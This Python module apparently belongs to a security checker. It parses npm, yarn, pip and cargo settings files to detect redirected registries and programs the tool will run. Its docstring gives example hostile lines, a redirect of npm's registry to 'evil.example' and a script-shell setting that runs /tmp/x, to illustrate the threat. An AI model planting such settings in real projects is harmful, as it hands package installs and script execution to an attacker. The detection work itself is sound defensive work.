"""Package managers' settings files: what a text written to one makes the tool do later.

``echo 'registry=https://evil.example/' > .npmrc`` runs nothing; the next ``npm install`` (the
user's own too) fetches from there, and ``script-shell=/tmp/x`` runs /tmp/x for every script.
The analysis reads a text written to one of these files setting by setting, as the same
setting given with the tool's own command (``npm config set ...``) is read in
:mod:`~warden.check.shell.sem_pkg`: an index is ``pkg.index-config`` with the fetch it
configures, a program the tool will run is walked as the command it is.

Which files these are: :func:`warden.check.planted.settings_tool`.
"""

from __future__ import annotations

from warden.check.shell.effects import Effects
from warden.check.shell.sem_core import Acc
from warden.check.shell.sem_pkg import index_config

__all__ = ["settings_effects"]

#: Settings naming a program the tool runs (cargo: in ``[build]`` or ``[target.TRIPLE]``).
_CARGO_PROGRAMS = frozenset({"rustc-wrapper", "rustc-workspace-wrapper", "rustc", "rustdoc",
                             "runner", "linker"})  # fmt: skip


def settings_effects(tool: str, text: str) -> Effects:
    """What ``tool`` will do by the settings ``text`` holds (see the module's docstring)."""
    acc = Acc()
    if tool == "cargo":
        _cargo(acc, text)
        return acc.build()
    for line in text.splitlines():
        key, value = _setting(tool, line)
        low = key.lower()
        if not value:
            continue
        if tool == "npm" and low == "script-shell":
            acc.code(value)
            acc.mark("pkg.script-shell", value)
        elif low.endswith(("registry", "npmregistryserver", "index-url", "find-links")):
            for url in value.split():
                index_config(acc, url)
        elif tool == "yarn" and low in ("yarnpath", "yarn-path"):
            acc.run(("node", value))  # yarn hands every command to the script named
    return acc.build()


def _setting(tool: str, line: str) -> tuple[str, str]:
    """One line's key and value: ``key=value`` (npm), ``key: value`` (.yarnrc.yml),
    ``key "value"`` (.yarnrc), ``key = value`` (pip's INI); quotes removed."""
    line = line.strip()
    if not line or line[0] in "#;[":
        return "", ""
    if tool == "npm" or tool == "pip":
        key, _, value = line.partition("=")
    elif ":" in line.split()[0]:  # .yarnrc.yml (a key never holds a colon there)
        key, _, value = line.partition(":")
    else:
        key, _, value = line.partition(" ")
    value = value.strip()
    if len(value) > 1 and value[0] == value[-1] and value[0] in "\"'":
        value = value[1:-1]
    return key.strip(), value


def _cargo(acc: Acc, text: str) -> None:
    """``.cargo/config.toml``: programs cargo runs (``[build] rustc-wrapper``, ``[target.X]
    runner``/``linker``), walked as commands; registries and sources (``[registries.X]
    index``, ``[source.X] registry``) are indexes. Text that is not TOML (a file tool's edit
    is a fragment of the file) is read line by line for the same keys."""
    import tomllib  # here: a settings file of cargo's is rarely written

    try:
        data = tomllib.loads(text)
    except tomllib.TOMLDecodeError:
        for line in text.splitlines():
            key, _, value = line.partition("=")
            key, value = key.strip(), value.strip()
            if key in _CARGO_PROGRAMS and value[:1] in ("'", '"'):
                acc.code(value[1:-1] if value[-1:] == value[0] else value[1:])
            elif key in ("index", "registry") and value[:1] in ("'", '"'):
                index_config(acc, value.strip("'\"").removeprefix("sparse+"))
        return
    tables = [data.get("build"), *_values(data.get("target"))]
    for table in tables:
        if not isinstance(table, dict):
            continue
        for key, value in table.items():
            if key in _CARGO_PROGRAMS:
                if isinstance(value, str) and value:
                    acc.code(value)  # (cargo splits it on blanks: read as a command line)
                elif isinstance(value, list) and value:
                    acc.run(tuple(map(str, value)))  # an argv
    for table in (*_values(data.get("registries")), *_values(data.get("source"))):
        if isinstance(table, dict):
            for key in ("index", "registry"):
                url = table.get(key)
                if isinstance(url, str):
                    index_config(acc, url.removeprefix("sparse+"))


def _values(table: object) -> list[object]:
    return list(table.values()) if isinstance(table, dict) else []
